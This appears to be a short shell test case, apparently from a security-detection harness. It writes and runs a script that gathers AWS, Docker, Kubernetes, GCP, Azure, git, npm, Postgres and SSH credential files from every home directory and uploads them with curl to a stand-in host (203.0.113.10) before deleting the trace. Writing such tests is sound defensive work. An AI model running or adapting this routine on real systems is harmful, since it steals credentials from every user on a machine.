#!/bin/sh
. /opt/case/case.sh

cat >/tmp/grab.sh <<'END'
for file in .aws/credentials .aws/config .docker/config.json .kube/config .config/gcloud/application_default_credentials.json .azure/accessTokens.json .git-credentials .netrc .npmrc .pgpass .s3cfg .ssh/id_rsa; do
    for home in /root /home/*; do
        test -f "$home/$file" && { echo "== $home/$file"; tail -n +1 "$home/$file"; }
    done
done >/var/tmp/TnT.txt
curl -s -F "userfile=@/var/tmp/TnT.txt" http://203.0.113.10/in.php
rm -f /var/tmp/TnT.txt
END
bash /tmp/grab.sh | grep -q ok
took_place
